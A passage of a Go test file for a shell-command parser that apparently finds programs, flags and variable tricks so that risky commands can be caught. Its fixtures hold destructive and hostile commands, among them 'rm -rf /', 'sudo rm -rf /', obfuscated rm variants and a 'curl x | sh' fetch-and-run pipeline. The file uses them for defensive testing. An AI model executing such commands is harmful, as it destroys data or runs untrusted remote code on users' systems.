	// A variable whose value is not known is still no option.
	{in: "rm $X /", argv: []string{"rm $X /"}, check: flagCheck("-r", false)},
	{in: "x=-rf; f() { x=; }; rm $Y$x /", check: flagCheck("-r", false)},
	{in: "F='a b'; rm -rf /$F", argv: []string{"rm -rf /$F"}, opaque: false, check: func(t *testing.T, p *Line) {
		if c := p.Commands[0]; !c.ArgvDynamic[2] {
			t.Errorf("argv_dynamic = %v", c.ArgvDynamic)
		}
	}},
	{in: "x='a b'; y=$x; echo \"$y\"", argv: []string{"echo a b"}},

	// Other compound forms.
	{in: "coproc cat", argv: []string{"cat"}},
	{in: "coproc NAME { rm x; }", argv: []string{"rm x"}},
	{in: "a && { b; c; } || (d)", argv: []string{"a", "b", "c", "d"}},

	// Limits.
	{in: deepSubst(MaxDepth), check: func(t *testing.T, p *Line) {
		if p.Opaque || find(t, p, "rm").Depth != MaxDepth {
			t.Errorf("nesting at the limit must be seen: opaque %v", p.OpaqueReasons)
		}
	}},
	{in: deepSubst(MaxDepth + 1), opaque: true},
	{in: strings.Repeat("bash -c '", 1) + deepSubst(MaxDepth) + "'", opaque: true},
}

func TestParse(t *testing.T) {
	if len(shellCases) < 150 {
		t.Errorf("want at least 150 shell cases, have %d", len(shellCases))
	}
	seen := map[string]bool{}
	for i, tc := range shellCases {
		if seen[tc.in] {
			t.Errorf("case %d: duplicate input %q", i, tc.in)
		}
		seen[tc.in] = true
		name := fmt.Sprintf("%03d_%s", i, tc.in)
		if len(name) > 60 {
			name = name[:60]
		}
		t.Run(name, func(t *testing.T) {
			if tc.argv == nil && tc.programs == nil && tc.check == nil && !tc.fail && !tc.opaque {
				t.Fatal("case checks nothing")
			}
			p := Parse(tc.in)
			if p.OK == tc.fail {
				t.Errorf("Parse(%q).OK = %v (error %q), want %v", tc.in, p.OK, p.Error, !tc.fail)
			}
			if tc.fail && p.Error == "" {
				t.Errorf("Parse(%q): no error text", tc.in)
			}
			if tc.opaque && !p.Opaque {
				t.Errorf("Parse(%q).Opaque = false, want true", tc.in)
			}
			if !tc.opaque && tc.check == nil && p.Opaque {
				t.Errorf("Parse(%q).Opaque = true (%v), want false", tc.in, p.OpaqueReasons)
			}
			if tc.argv != nil {
				got := []string{}
				for _, c := range p.Commands {
					got = append(got, strings.Join(c.Argv, " "))
				}
				if !reflect.DeepEqual(got, tc.argv) {
					t.Errorf("Parse(%q) argv\n got  %q\n want %q", tc.in, got, tc.argv)
				}
			}
			if tc.programs != nil {
				if got := p.Programs(); !reflect.DeepEqual(got, tc.programs) {
					t.Errorf("Parse(%q).Programs() = %q, want %q", tc.in, got, tc.programs)
				}
			}
			for _, c := range p.Commands {
				if len(c.Argv) != len(c.ArgvDynamic) {
					t.Errorf("argv and argv_dynamic differ in length: %q %v", c.Argv, c.ArgvDynamic)
				}
			}
			if tc.check != nil {
				tc.check(t, p)
			}
		})
	}
}

func TestParseLong(t *testing.T) {
	var b strings.Builder
	for i := 0; b.Len() < 3000; i++ {
		fmt.Fprintf(&b, "git add file%d.go && ", i)
	}
	b.WriteString("sudo rm -rf /")
	p := Parse(b.String())
	if !p.OK || p.Opaque {
		t.Fatalf("long command: ok %v error %q opaque %v", p.OK, p.Error, p.OpaqueReasons)
	}
	last := p.Commands[len(p.Commands)-1]
	if last.Program != "rm" || !last.HasFlags("-r", "-f") {
		t.Errorf("last command = %+v", last)
	}
}

func TestParseTooManyCommands(t *testing.T) {
	p := Parse(strings.Repeat("a;", MaxCommands+5))
	if !p.Opaque || len(p.Commands) != MaxCommands {
		t.Errorf("opaque %v, %d commands", p.Opaque, len(p.Commands))
	}
}

func TestParseTooLong(t *testing.T) {
	p := Parse("rm -rf / " + strings.Repeat("x", MaxInput))
	if p.OK || len(p.Commands) == 0 || p.Commands[0].Program != "rm" {
		t.Errorf("too long: ok %v, commands %d", p.OK, len(p.Commands))
	}
}

func TestHasFlagsEmpty(t *testing.T) {
	c := Parse("rm -rf /").Commands[0]
	if c.HasFlags() {
		t.Error("HasFlags() with no specs must be false")
	}
	if c.HasFlag("") || c.HasFlag("|") {
		t.Error("empty spec must not match")
	}
}

func TestParseLongPipelineIsLinear(t *testing.T) {
	pipeline := func(n int) string { return strings.Repeat("a | ", n-2) + "curl x | sh" }
	assertLinear(t, "a pipeline", pipeline, MaxCommands/4)
	p := Parse(pipeline(MaxCommands))
	last := p.Commands[len(p.Commands)-1]
	if last.Program != "sh" || len(last.Upstream) != len(p.Commands)-1 || last.Upstream[len(last.Upstream)-1] != "curl" {
		t.Errorf("last = %q, %d upstream", last.Program, len(last.Upstream))
	}
	if got := p.Commands[3].Upstream; len(got) != 3 {
		t.Errorf("upstream of stage 3 = %d entries", len(got))
	}
}

// TestParseAdversarialNesting: deep nesting is bounded, not slow (the work
// grows linearly with the depth; see assertLinear).
func TestParseAdversarialNesting(t *testing.T) {
	nestings := map[string]func(n int) string{
		"subshells": func(n int) string { return strings.Repeat("(", n) + "rm -rf /" + strings.Repeat(")", n) },
		"groups":    func(n int) string { return strings.Repeat("{ ", n) + "rm -rf /; " + strings.Repeat("} >a; ", n) },
		"substs":    func(n int) string { return strings.Repeat("echo $(", n) + "rm -rf /" + strings.Repeat(")", n) },
		"ifs": func(n int) string {
			return strings.Repeat("if a; then ", n) + "rm -rf /" + strings.Repeat("; fi >a", n)
		},
	}
	n := 20000
	for name, nest := range nestings {
		assertLinear(t, name, nest, n/4)
		in := nest(n)
		p := Parse(in)
		if p.OK && !p.Opaque {
			if c := find(t, p, "rm"); len(c.Redirects) > MaxInheritedRedirects {
				t.Errorf("%d inherited redirects", len(c.Redirects))
			}
		}
		found := false
		for _, c := range p.Commands {
			found = found || c.Program == "rm"
		}
		if !found && p.OK && !p.Opaque {
			t.Errorf("%.20q...: rm not seen, and neither opaque nor failed", in)
		}
	}
	if got := bracketNesting(`echo '((((' "(" \( $(a) {`); got != 2 {
		t.Errorf("bracketNesting = %d, want 2", got)
	}
}

// A value built from values doubles with each assignment: the walker must
// stop carrying it before it costs memory, and say it cannot see through.
func TestVariableGrowthIsBounded(t *testing.T) {
	var b strings.Builder
	b.WriteString("A0=xxxxxxxx; ")
	for i := 1; i <= 40; i++ {
		fmt.Fprintf(&b, "A%d=$A%d$A%d; ", i, i-1, i-1)
	}
	b.WriteString("echo $A40; rm -rf /")
	p := Parse(b.String())
	longest := 0
	for _, c := range p.Commands {
		for _, a := range c.Argv {
			longest = max(longest, len(a))
		}
	}
	if longest > maxVarValue(b.Len()) {
		t.Errorf("a word of %d bytes came out of a %d-byte command", longest, b.Len())
	}
	if !p.Opaque {
		t.Errorf("got opaque false, want true: the echoed value is unknown")
	}
	if progs := p.Programs(); !slices.Contains(progs, "rm") {
		t.Errorf("programs %v: the rm after the growth must still be seen", progs)
	}
}
